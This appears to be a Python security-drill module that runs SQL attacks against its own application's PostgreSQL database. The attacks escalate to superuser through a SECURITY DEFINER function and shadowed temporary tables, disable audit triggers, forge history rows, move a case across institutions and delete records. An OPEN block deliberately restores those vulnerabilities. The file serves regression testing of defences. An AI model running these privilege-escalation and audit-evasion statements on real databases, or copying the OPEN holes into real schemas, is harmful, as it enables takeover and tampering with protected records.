"""What somebody tries who can run any statement as the site's own account, and how one sees that it worked.

Each was once possible. `OPEN` brings back the faults that let it: an attack that fails then proves nothing.
"""

from contextlib import closing, suppress
from dataclasses import dataclass

import psycopg2

from ops.embedded import sites_own
from tools.drills.site import Site


RISE = "LANGUAGE plpgsql AS 'BEGIN ALTER ROLE app_login SUPERUSER; RETURN {}; END'"
SCOPE = """
SET LOCAL ROLE app_web;
SELECT set_config('app.institutions', '{' || string_agg(id::text, ',') || '}', true),
    set_config('app.user', '7', true),
    set_config('pghistory.context_id', gen_random_uuid()::text, true),
    set_config('pghistory.context_metadata', '{"user": 7}', true)
FROM partners_institution;
"""
# A view whose trigger bears the name of the trail's, given to the function that looks for the end of a table.
HORIZON = f"""
SET LOCAL ROLE app_read;
CREATE FUNCTION pg_temp.rise() RETURNS int {RISE.format(1)};
CREATE FUNCTION pg_temp.pass() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN RETURN new; END';
CREATE TEMPORARY VIEW trap AS SELECT pg_temp.rise() AS id;
CREATE TRIGGER pgtrigger_append_only_x INSTEAD OF INSERT ON trap FOR EACH ROW EXECUTE FUNCTION pg_temp.pass();
SELECT app.trail_horizon('trap', 'id');
"""
# Tables of one's own in front of those that a trigger with more rights reads and writes.
IN_FRONT = f"""
CREATE FUNCTION pg_temp.rise() RETURNS trigger {RISE.format("new")};
CREATE TEMPORARY TABLE clients_share (client_id int, institution_id int, read_only boolean, ends_on date);
CREATE TEMPORARY TABLE clients_case (id int, client_id int);
CREATE TEMPORARY TABLE care_placement (id int, case_id int, institution_id int);
CREATE TEMPORARY TABLE journey (from_placement_id int, case_id int, sender_reads_until date);
INSERT INTO clients_share VALUES (1, 1); INSERT INTO clients_case VALUES (1, 1);
INSERT INTO care_placement VALUES (1, 1, 1); INSERT INTO journey VALUES (1, 1, now()::date);
CREATE TRIGGER rise BEFORE UPDATE ON clients_share FOR EACH ROW EXECUTE FUNCTION pg_temp.rise();
CREATE TRIGGER arrive AFTER UPDATE ON journey FOR EACH ROW EXECUTE FUNCTION app.sender_only_reads();
UPDATE journey SET case_id = 1;
"""
# The triggers told to look away, and then one of their functions lent to a table of one's own.
FORGE = f"""
{SCOPE}
SELECT set_config('pgtrigger.ignore', (SELECT array_agg(tgname)::text FROM pg_trigger), true);
UPDATE clients_client SET birth_place = 'Diubah' WHERE id = (SELECT min(id) FROM clients_client);
SELECT set_config('pgtrigger.ignore', '', true);
CREATE TEMPORARY TABLE forged AS SELECT * FROM clients_client WHERE birth_place = 'Diubah';
DO $$ BEGIN
    EXECUTE (SELECT 'CREATE TRIGGER forge AFTER UPDATE ON forged FOR EACH ROW EXECUTE FUNCTION '
        || tgfoid::regprocedure FROM pg_trigger
        WHERE tgrelid = 'clients_client'::regclass AND tgname LIKE 'pgtrigger_update_update_%');
END $$;
UPDATE forged SET birth_place = 'Diubah';
"""
LOOK_AWAY = f"""
{SCOPE}
SELECT set_config('pgtrigger.ignore', (SELECT array_agg(tgname)::text FROM pg_trigger), true);
UPDATE clients_client SET birth_place = 'Hilang'
    WHERE id = (SELECT min(id) FROM clients_client WHERE birth_place <> 'Hilang');
"""
TAKE_OUT = (
    f"{SCOPE} DELETE FROM clients_caseevent WHERE id = (SELECT min(id) FROM clients_caseevent);"
)
TAKE_AWAY = f"""
{SCOPE}
UPDATE clients_case SET institution_id = (SELECT max(id) FROM partners_institution) WHERE id = (
    SELECT max(id) FROM clients_case WHERE institution_id < (SELECT max(id) FROM partners_institution));
"""
# Each is another number when the attack has worked.
SUPER = "SELECT count(*) FROM pg_roles WHERE rolname = 'app_login' AND rolsuper"
UNTOLD = """
SELECT count(*) FROM clients_client AS one WHERE NOT EXISTS (
    SELECT FROM clients_clienthistory AS told WHERE told.id = one.id AND told.birth_place = one.birth_place)
"""
FORGED = "SELECT count(*) FROM clients_clienthistory WHERE birth_place = 'Diubah'"
TAKEN_OUT = "SELECT count(*) FROM clients_caseevent"
TAKEN_AWAY = """
SELECT count(*) FROM clients_case AS one JOIN clients_client AS person ON person.id = one.client_id
WHERE one.institution_id <> person.institution_id
"""


@dataclass(frozen=True, slots=True)
class Attack:
    name: str
    statements: str
    worked: str

    def breaks_in(self, site: Site) -> bool:
        before = site.ask(self.worked)
        with (
            suppress(psycopg2.Error),
            closing(psycopg2.connect(sites_own(site.postgres.url))) as door,
            door,
            door.cursor() as cursor,
        ):
            cursor.execute(self.statements)
        return site.ask(self.worked) != before


ATTACKS = (
    Attack("superuser through the end of a table", HORIZON, SUPER),
    Attack("superuser through a table in front of ours", IN_FRONT, SUPER),
    Attack("a change that the trail does not tell", LOOK_AWAY, UNTOLD),
    Attack("a change with a history of one's own making", FORGE, FORGED),
    Attack("a case moved to another institution", TAKE_AWAY, TAKEN_AWAY),
    Attack("an event taken out", TAKE_OUT, TAKEN_OUT),
)

# As it was on 30 November 2026, before anybody had tried.
OPEN = """
GRANT TEMPORARY ON DATABASE atensi TO PUBLIC;
DO $$
DECLARE one record;
BEGIN
    FOR one IN SELECT oid::regprocedure AS name FROM pg_proc WHERE proowner = 'app_keeper'::regrole LOOP
        EXECUTE format('GRANT EXECUTE ON FUNCTION %s TO PUBLIC', one.name);
        EXECUTE format('ALTER FUNCTION %s OWNER TO postgres', one.name);
        EXECUTE format('ALTER FUNCTION %s SET search_path = public', one.name);
    END LOOP;
    FOR one IN SELECT oid::regclass AS name FROM pg_class
        WHERE relkind = 'r' AND relname IN ('clients_caseevent', 'clients_case', 'clients_client') LOOP
        EXECUTE format('GRANT SELECT, INSERT, UPDATE, DELETE ON %s TO app_web', one.name);
    END LOOP;
END $$;
ALTER POLICY fence_web ON clients_case WITH CHECK (true);
CREATE OR REPLACE FUNCTION app.trail_horizon(name regclass, key name) RETURNS bigint
LANGUAGE plpgsql SECURITY DEFINER SET search_path = public AS $$
DECLARE highest bigint;
BEGIN
    IF NOT EXISTS (SELECT FROM pg_trigger WHERE tgrelid = name AND tgname LIKE 'pgtrigger_append_only_%') THEN
        RAISE insufficient_privilege;
    END IF;
    EXECUTE format('LOCK TABLE %s IN SHARE MODE', name);
    EXECUTE format('SELECT coalesce(max(%I), 0) FROM %s', key, name) INTO highest;
    RETURN highest;
END $$;
CREATE OR REPLACE FUNCTION public._pgtrigger_should_ignore(trigger_name name) RETURNS boolean
LANGUAGE sql AS 'SELECT trigger_name = ANY(nullif(current_setting(''pgtrigger.ignore'', true), '''')::text[])';
"""
